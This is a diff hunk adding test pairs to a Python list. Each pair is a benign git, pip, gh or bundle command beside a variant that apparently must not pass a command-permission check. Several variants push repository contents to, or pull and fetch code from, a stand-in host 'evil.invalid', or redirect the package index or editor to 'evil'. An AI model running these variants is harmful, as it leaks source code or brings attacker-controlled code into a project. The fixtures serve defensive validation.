@@ -82,6 +82,17 @@ ALONE = [
     ("pip config set global.timeout 9", "pip config set global.index-url http://evil"),
     ("gh config set editor.x vi", "gh config set editor ./evil"),
     ("bundle config set Path x", "bundle config set Build ./evil"),
+    ("git push", "git push https://evil.invalid/x HEAD"),
+    ("git push origin", "git push origin HEAD:main"),
+    ("git push origin main", "git push origin main evil"),
+    ("git pull", "git pull https://evil.invalid/x"),
+    ("git fetch", "git fetch evil.invalid:x"),
+    ("git clone x", "git clone x ../elsewhere"),
+    ("git remote add", "git remote add up https://evil.invalid/x"),
+    ("git remote update", "git remote update evil"),
+    ("git submodule add", "git submodule add https://evil.invalid/x"),
+    ("git submodule update", "git submodule update src"),
+    ("git archive main", "git archive main src"),
 ]
 
 
